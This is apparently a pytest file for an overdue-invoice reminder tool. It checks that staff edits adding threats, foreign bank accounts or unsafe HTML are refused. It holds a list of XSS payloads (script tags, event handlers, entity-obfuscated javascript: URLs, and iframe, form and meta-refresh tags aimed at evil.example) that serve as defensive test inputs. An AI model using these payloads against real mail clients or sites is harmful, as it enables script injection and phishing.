"""Staff edits (issue 12): both parts change together, and the new words pass the templates' content rules.

Each refusal leaves the reminder exactly as it was; HTML from staff is read with a real HTML parser, so
encoded and obfuscated scripts are caught as a mail client would see them.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from actors import staff
from reminder_factory import NOW, PHONE, action, plan, seed
from sqlalchemy import select
from test_reminder_cli import run

from overdue_reminder.config import Settings
from overdue_reminder.core.clearance import html_words
from overdue_reminder.core.email_html import html_problems, text_to_html
from overdue_reminder.core.reminder_text import SHIPPED_TIERS
from overdue_reminder.errors import UsageError
from overdue_reminder.services import reminders as drafts
from overdue_reminder.store import Store
from overdue_reminder.store.schema import audit


def _drafted(store: Store, settings: Settings, *acts_kw: dict[str, object]) -> list[drafts.Reminder]:
    acts = [action(i + 1, **kw) for i, kw in enumerate(acts_kw)]  # type: ignore[arg-type]
    seed(store, acts)
    res = drafts.draft_plan(store, settings, plan(*acts), NOW)
    return [drafts.get_reminder(store, i.id or 0) for i in res.created]


def test_edited_text_brings_a_new_html_part_made_from_it(store: Store, settings: Settings) -> None:
    (r,) = _drafted(store, settings, {})
    drafts.approve(store, [r.id], staff("clerk"), NOW, settings=settings)
    new_text = r.body_text.replace("friendly reminder", "gentle <b>reminder</b> & note\nSecond line")
    e = drafts.edit(store, settings, r.id, "clerk", NOW, text=new_text)
    assert e.status == drafts.DRAFT and e.body_text == new_text
    assert e.body_html != r.body_html and "friendly reminder" not in e.body_html
    assert "gentle &lt;b&gt;reminder&lt;/b&gt; &amp; note" in e.body_html  # escaped, never markup
    assert "<br>\nSecond line" in e.body_html and e.body_html.count("<p ") >= 3  # lines and paragraphs kept
    assert '<a href="https://pay.harperlowe.example">' in e.body_html  # the official channel's link
    assert PHONE in e.body_html and "Bank transfer (USD)" in e.body_html and html_problems(e.body_html) == []
    assert " ".join(html_words(e.body_html).split()) == " ".join(new_text.replace(
        "https://pay.harperlowe.example", "https://pay.harperlowe.example https://pay.harperlowe.example").split())
    with store.begin() as conn:
        detail = conn.execute(select(audit.c.detail).where(audit.c.action == "reminder.edited")).scalar_one()
    assert detail["parts"] == ["body_html", "body_text"] and detail["html"] == "made from the text"


def test_every_shipped_reminder_passes_the_edit_checks_unchanged(store: Store, settings: Settings) -> None:
    """The rules are the templates' rules: what the firm ships passes them, in every language and tier."""
    kws: list[dict[str, object]] = [{"tier": t, "language": lang, "with_offer": t == "final"}
                                    for lang in ("en_US", "zh_CN") for t in SHIPPED_TIERS]
    for r in _drafted(store, settings, *kws):
        assert html_problems(r.body_html) == [], (r.language, r.tier)
        same = drafts.edit(store, settings, r.id, "clerk", NOW, subject=r.subject, text=r.body_text,
                           html=r.body_html)
        assert same.body_html == r.body_html and same.body_text == r.body_text


@pytest.mark.parametrize(("language", "change", "problem"), [
    ("en_US", lambda t: t.replace(PHONE, "our office"), f"omits '{PHONE}'"),
    ("en_US", lambda t: t.replace("Bank transfer (USD)", "Bank"), "omits 'Bank transfer (USD)'"),
    ("en_US", lambda t: t + "\nOtherwise we will call the police.", "forbidden wording 'police'"),
    ("en_US", lambda t: t + "\nWe may press charges.", "forbidden wording 'press charges'"),
    ("en_US", lambda t: t + "\nWe may consider CRIMINAL\u200b proceedings.", "forbidden wording 'criminal'"),
    ("zh_CN", lambda t: t + "\n否则我们将报警。", "forbidden wording '报警'"),
    ("zh_CN", lambda t: t.replace("银行转账（美元）", "转账"), "omits '银行转账（美元）'"),
    ("en_US", lambda t: t + "\nNew bank details: account 99887766554.", "'99887766554'"),
    ("en_US", lambda t: t + "\nPlease wire to GB29 NWBK 6016 1331 9268 19.", "GB29 NWBK"),
], ids=["no-phone", "no-channel", "threat", "charges", "hidden-threat", "zh-threat", "zh-no-channel",
        "foreign-account", "foreign-iban"])
def test_edited_text_that_breaks_a_content_rule_is_refused(store: Store, settings: Settings, language: str,
                                                           change: object, problem: str) -> None:
    (r,) = _drafted(store, settings, {"language": language})
    bad = change(r.body_text)  # type: ignore[operator]
    assert bad != r.body_text
    with pytest.raises(UsageError, match="Official words only") as err:
        drafts.edit(store, settings, r.id, "clerk", NOW, text=bad)
    assert problem in str(err.value)
    after = drafts.get_reminder(store, r.id)
    assert (after.body_text, after.body_html, after.status) == (r.body_text, r.body_html, r.status)


def test_the_official_account_numbers_may_stay(store: Store, settings: Settings) -> None:
    (r,) = _drafted(store, settings, {})
    assert "1234567890" in r.body_text and "021000021" in r.body_text
    e = drafts.edit(store, settings, r.id, "clerk", NOW, text=r.body_text + "\nAccount 1234567890 again.")
    assert e.body_text.endswith("again.")


def test_a_subject_with_a_threat_is_refused(store: Store, settings: Settings) -> None:
    (r,) = _drafted(store, settings, {})
    with pytest.raises(UsageError, match="forbidden wording 'prosecut'"):
        drafts.edit(store, settings, r.id, "clerk", NOW, subject="Pay or face prosecution")


def test_html_alone_is_refused_both_parts_change_together(store: Store, settings: Settings) -> None:
    (r,) = _drafted(store, settings, {})
    with pytest.raises(UsageError, match="needs the text part"):
        drafts.edit(store, settings, r.id, "clerk", NOW, html=r.body_html.replace("friendly", "kind"))
    assert drafts.get_reminder(store, r.id).body_html == r.body_html


ATTACKS = {
    "script": "<script>alert(1)</script>",
    "img-onerror": '<img src=x onerror="alert(1)">',
    "svg-onload": "<svg onload=alert(1)>",
    "p-onclick": '<p ONCLICK="alert(1)">x</p>',
    "js-url": '<a href="javascript:alert(1)">pay</a>',
    "js-url-case": '<a href="JaVaScRiPt:alert(1)">pay</a>',
    "js-entity-dec": '<a href="&#106;avascript:alert(1)">pay</a>',
    "js-entity-hex": '<a href="&#x6A;&#x61;vascript:alert(1)">pay</a>',
    "js-entity-nosemi": '<a href="&#106avascript:alert(1)">pay</a>',
    "js-named-colon": '<a href="javascript&colon;alert(1)">pay</a>',
    "js-tab": '<a href="java\tscript:alert(1)">pay</a>',
    "js-entity-tab": '<a href="jav&#x09;ascript:alert(1)">pay</a>',
    "js-newline-entity": '<a href="java&NewLine;script:alert(1)">pay</a>',
    "js-leading-space": '<a href=" \x01 javascript:alert(1)">pay</a>',
    "data-url": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">pay</a>',
    "data-entity": '<a href="&#100;ata:text/html,x">pay</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">pay</a>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "form": '<form action="https://evil.example"><input name=x></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "style-url": '<div style="background:url(javascript:alert(1))">x</div>',
    "style-expression": '<div style="width:expression(alert(1))">x</div>',
    "style-block": "<style>@import 'https://evil.example/x.css';</style>",
    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "math-xlink": '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "unfinished-tag": '<a href="javascript:alert(1)"',
    "object": '<object data="https://evil.example/x.swf"></object>',
}


@pytest.mark.parametrize("attack", list(ATTACKS.values()), ids=list(ATTACKS))
def test_staff_html_that_could_run_or_load_anything_is_refused(store: Store, settings: Settings,
                                                               attack: str) -> None:
    assert html_problems(attack), attack
    (r,) = _drafted(store, settings, {})
    bad = r.body_html.replace("</body>", attack + "</body>")
    with pytest.raises(UsageError, match="HTML part is refused"):
        drafts.edit(store, settings, r.id, "clerk", NOW, text=r.body_text, html=bad)
    assert drafts.get_reminder(store, r.id).body_html == r.body_html


def test_safe_links_and_formatting_pass_the_html_check() -> None:
    ok = ('<p>See <a href="https://pay.example/x?a=1&amp;b=2">the portal</a>, <a href="mailto:ap@x.example">'
          'mail</a>, <a href="tel:+12125550100">call</a>, <a href="#top">top</a>.<br><strong>Thanks</strong></p>')
    assert html_problems(ok) == []
    made = text_to_html('<script>alert(1)</script>\n\nsee javascript:alert(1) & https://pay.example',
                        "zh_CN", ["https://pay.example", "javascript:alert(1)"])
    assert html_problems(made) == [] and '<html lang="zh-CN">' in made
    assert '<a href="https://pay.example">' in made and "&lt;script&gt;" in made


def test_html_given_with_the_text_is_checked_for_its_words_too(store: Store, settings: Settings) -> None:
    (r,) = _drafted(store, settings, {})
    sneaky = r.body_html.replace("</body>", "<p>or we call the &#112;olice</p></body>")
    with pytest.raises(UsageError, match="edited HTML part cannot go out.*'police'"):
        drafts.edit(store, settings, r.id, "clerk", NOW, text=r.body_text, html=sneaky)


def test_cli_edit_makes_the_html_and_refuses_a_lone_html_part(capsys: pytest.CaptureFixture[str],
                                                               tmp_path: Path, settings: Settings) -> None:
    store = Store(settings.store_url)
    store.upgrade()
    try:
        (r,) = _drafted(store, settings, {})
        text_file, html_file = tmp_path / "t.txt", tmp_path / "h.html"
        text_file.write_text(r.body_text.replace("friendly reminder", "short note"), encoding="utf-8")
        html_file.write_text(r.body_html, encoding="utf-8")
        code, out = run(capsys, settings, "drafts", "edit", str(r.id), "--html-file", str(html_file))
        assert code == 2 and "needs the text part" in out
        code, out = run(capsys, settings, "drafts", "edit", str(r.id), "--text-file", str(text_file))
        assert code == 0, out
        e = drafts.get_reminder(store, r.id)
        assert "short note" in e.body_text and "short note" in e.body_html and "friendly reminder" not in e.body_html
        text_file.write_text(e.body_text + "\nor we involve law enforcement", encoding="utf-8")
        code, out = run(capsys, settings, "drafts", "edit", str(r.id), "--text-file", str(text_file))
        assert code == 2 and "law enforcement" in out and "Official words only" in out
    finally:
        store.dispose()
